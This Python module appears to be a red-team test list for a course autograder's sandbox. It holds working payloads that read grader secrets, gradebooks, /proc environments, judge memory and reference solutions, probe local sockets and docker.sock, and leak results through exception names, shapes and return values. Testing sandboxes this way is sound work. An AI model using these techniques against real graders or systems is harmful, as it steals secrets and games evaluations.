"""Attempts to read what is secret, and to carry it out through whatever reaches a page."""

from attack_world import cell, on_call

TELL = """
def tell(data):
    if not data: return
    text = data if isinstance(data, str) else bytes(data).decode("latin-1")
    raise type("Secret_" + text, (Exception,), {})(text)
"""


def spy(name: str, code: str):
    """Whatever `code` finds as `data` is told in every way that there is."""
    body = "".join(f"    {line}\n" for line in code.strip().split("\n"))
    return cell(
        name,
        TELL,
        f"\ndef forward_diffusion(x_0, t, schedule):\n{body}    tell(data)\n    return x_0, x_0\n",
    )


READ = "try: data = open('{}', 'rb').read()\nexcept OSError: data = b''"
ATTACKS = [
    spy("the secret", READ.format("@secret@")),
    spy("the gradebook", READ.format("@gradebook@")),
    spy("another submission", READ.format("@other@")),
    spy("the environment", "import os\ndata = os.environ.get('COURSE_CANARY', '')"),
    spy("the environment of the first process", READ.format("/proc/1/environ")),
    spy("the environment of the judge", READ.format("/proc/@judge@/environ")),
    spy("its own environment as it started", READ.format("/proc/self/environ")),
    spy("the command line of the judge", READ.format("/proc/@judge@/cmdline")),
    spy(
        "open files of the judge",
        "import glob\ndata = b''\nfor path in glob.glob('/proc/@judge@/fd/*') + glob.glob('/proc/@judge@/root@secret@'):\n    try: data += open(path, 'rb').read(1000)\n    except OSError: pass",
    ),
    spy("the folder of the class through /proc", READ.format("/proc/self/root@secret@")),
    spy(
        "the memory of the judge",
        "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nbuffer = ctypes.create_string_buffer(64)\nclass V(ctypes.Structure): _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]\nlocal = V(ctypes.addressof(buffer), 64)\nremote = V(id(data := b''), 64)\nn = libc.process_vm_readv(@judge@, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)\ndata = 'memory' + buffer.raw.hex() if n > 0 else ''",
    ),
    spy(
        "tracing the parent",
        "import ctypes, os\nn = ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0)\ndata = '@secret@' if n == 0 and os.getppid() else ''",
    ),
    spy(
        "the repository's solutions",
        "import glob, course_utils\nroot = course_utils.__path__[0].rsplit('/', 1)[0]\ndata = b''\nfor path in glob.glob(root + '/solutions/*') + glob.glob(root + '/grader/**', recursive=True):\n    try: data += open(path, 'rb').read(50)\n    except OSError: pass",
    ),
    spy(
        "the references",
        "try:\n    from grader.reference import reference_code\n    from course_utils.engine.exercise import load_lesson\n    data = reference_code('04_ddpm', load_lesson('04_ddpm')['forward_diffusion'])\nexcept Exception: data = ''",
    ),
    spy(
        "modules of the judge",
        "import sys\ndata = ' '.join(n for n in sys.modules if n in ('grader.reference', 'grader.source', 'grader.judge', 'grader.misconceptions'))",
    ),
    spy(
        "the seed of the hidden cases",
        "import sys\nframe = sys._getframe()\ndata = ''\nwhile frame:\n    data = frame.f_locals.get('seed', data)\n    frame = frame.f_back\ndata = 'seed' + str(data)",
    ),
    spy(
        "the whole file system",
        "import os\ndata = ''\nfor folder, folders, files in os.walk('/'):\n    if folder.startswith(('/usr', '/lib', '/proc')): folders.clear()\n    for name in files:\n        if name in ('secret', 'gradebook.db'): data += folder + name",
    ),
    spy(
        "the network",
        "import socket\ntry:\n    socket.create_connection(('127.0.0.1', @port@), 1)\n    data = 'network'\nexcept OSError: data = ''",
    ),
    spy(
        "a datagram",
        "import socket\ntry:\n    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', @port@))\n    data = 'network'\nexcept OSError: data = ''",
    ),
    spy(
        "a name server",
        "import socket\ntry: data = 'network' + socket.gethostbyname('localhost.example')\nexcept OSError: data = ''",
    ),
    spy(
        "sockets in the file system",
        "import socket, glob\ndata = ''\nfor path in glob.glob('/run/**/*.sock', recursive=True) + ['/var/run/docker.sock']:\n    try:\n        socket.socket(socket.AF_UNIX).connect(path)\n        data = 'socket'\n    except OSError: pass",
    ),
    spy("shared memory", "import glob\ndata = ''.join(glob.glob('/dev/shm/*'))"),
    spy(
        "files that an earlier player left",
        "import os\ndata = ''.join(os.listdir('/tmp'))\nopen('/tmp/left_for_the_next_one', 'w').write('x')",
    ),
    spy(
        "the folder that it started in",
        "import os\ndata = ''.join(f for f in os.listdir('.') if f != 'left_for_the_next_one') + os.environ.get('PWD', '')",
    ),
    on_call(
        "a hidden input as the name of an error",
        "raise type('V' + str(abs(x_0.flatten()[0].item())).replace('.', '_'), (Exception,), {})()",
    ),
    on_call(
        "a reference as an answer",
        "import marshal\ncode = marshal.dumps(precompute_schedule.__code__).hex()\nreturn 'Secret_' + code[:1500], x_0",
    ),
    on_call(
        "a reference in an error",
        "import marshal\nraise ValueError('Secret_' + marshal.dumps(precompute_schedule.__code__).hex())",
    ),
    on_call(
        "a reference in the name of an attribute",
        "import marshal\ngetattr(x_0, 'Secret_' + marshal.dumps(precompute_schedule.__code__).hex()[:150])",
    ),
    on_call(
        "a reference in a wrong return",
        "from course_utils.engine.runner import WrongReturn\nimport marshal\nraise WrongReturn('Secret_' + marshal.dumps(precompute_schedule.__code__).hex())",
    ),
    on_call(
        "a reference in a shape",
        "return torch.empty(0, *precompute_schedule.__code__.co_code[:40]), x_0",
    ),
    on_call(
        "a reference as a number",
        "return int.from_bytes(precompute_schedule.__code__.co_code, 'big'), x_0",
    ),
]
